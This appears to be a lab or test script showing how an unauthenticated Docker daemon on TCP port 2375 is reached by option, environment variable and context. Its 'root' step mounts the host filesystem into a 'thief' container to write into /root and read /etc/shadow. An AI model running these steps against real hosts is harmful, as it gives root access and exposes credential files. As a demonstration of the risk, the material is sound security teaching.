# step: port
perl open-port.pl > /dev/null 2>&1 < /dev/null &
echo "$!" > .port.pid
until curl -sf http://127.0.0.1:2375/_ping; do sleep 0.1; done

# step: option
docker -H tcp://127.0.0.1:2375 ps
docker -H tcp://127.0.0.1:2375 run -d --name by-option busybox sleep 3600

# step: variable
export DOCKER_HOST=tcp://127.0.0.1:2375
docker run -d --name by-variable busybox sleep 3600

# step: context
docker context create lab --docker host=tcp://127.0.0.1:2375
docker context ls
docker context use lab
docker run -d --name by-context busybox sleep 3600
DOCKER_HOST=unix:///var/run/docker.sock docker context show

# step: root
! cat /etc/shadow
! touch /root/was-here
docker -H tcp://127.0.0.1:2375 run -d --name thief -v /:/host busybox sleep 3600
docker -H tcp://127.0.0.1:2375 exec thief touch /host/root/was-here
docker exec thief grep -q '^root:' /host/etc/shadow

# step: close
docker exec thief rm /host/root/was-here
docker rm -f thief
kill "$(cat .port.pid)"
while curl -sf http://127.0.0.1:2375/_ping; do sleep 0.1; done
! docker ps
docker context use default
docker ps
